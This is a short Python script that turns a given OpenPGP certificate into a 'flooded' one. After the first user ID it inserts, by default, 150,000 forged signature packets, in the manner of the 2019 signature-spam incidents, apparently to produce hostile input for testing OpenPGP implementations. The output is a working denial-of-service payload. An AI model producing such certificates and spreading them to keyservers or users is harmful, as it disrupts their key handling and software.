#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""A flooded certificate, as those of 2019: many signatures behind the first user ID that nobody made.

flooded.py CERT [COUNT [WHOSE]] writes it to standard output. CERT is binary and of version 4. WHOSE: "others" (each
names another issuer; the default) or "own" (each claims to be the certificate's own, so that it must be looked at).
"""
import hashlib
import random
import sys

SIGNATURE, USER_ID = 2, 13


def packets(octets):
    """(type, whole packet, body) one after the other."""
    at = 0
    while at < len(octets):
        start, head = at, octets[at]
        at += 1
        if head & 0x40:
            kind, size = head & 63, octets[at]
            at += 1
            if 192 <= size < 224:
                size, at = ((size - 192) << 8) + octets[at] + 192, at + 1
            elif size == 255:
                size, at = int.from_bytes(octets[at:at + 4], "big"), at + 4
        else:
            kind, width = (head >> 2) & 15, 1 << (head & 3)
            size, at = int.from_bytes(octets[at:at + width], "big"), at + width
        yield kind, octets[start:at + size], octets[at:at + size]
        at += size


def number(rng):
    """An MPI of 256 bits."""
    return (256).to_bytes(2, "big") + bytes([rng.randrange(128, 256)]) + rng.randbytes(31)


def forged(rng, fingerprint, created):
    hashed = (bytes([5, 2]) + created.to_bytes(4, "big") + bytes([22, 33, 4]) + fingerprint)
    unhashed = bytes([9, 16]) + fingerprint[-8:]
    body = bytes([4, 0x10, 22, 8]) + len(hashed).to_bytes(2, "big") + hashed + len(unhashed).to_bytes(2, "big") + unhashed
    body += rng.randbytes(2) + number(rng) + number(rng)
    return bytes([0xc0 | SIGNATURE, len(body)]) + body


def flood(cert, count, own=False):
    rng = random.Random(2019)
    key = next(body for kind, _, body in packets(cert) if kind in (5, 6))
    fingerprint = hashlib.sha1(b"\x99" + len(key).to_bytes(2, "big") + key).digest()
    out, done = [], False
    for kind, whole, _ in packets(cert):
        out.append(whole)
        if kind == USER_ID and not done:
            done = True
            out += [forged(rng, fingerprint if own else rng.randbytes(20), 1600000000 + n) for n in range(count)]
    return b"".join(out)


if __name__ == "__main__":
    with open(sys.argv[1], "rb") as f:
        CERT = f.read()
    COUNT = int(sys.argv[2]) if len(sys.argv) > 2 else 150000
    sys.stdout.buffer.write(flood(CERT, COUNT, sys.argv[3:4] == ["own"]))
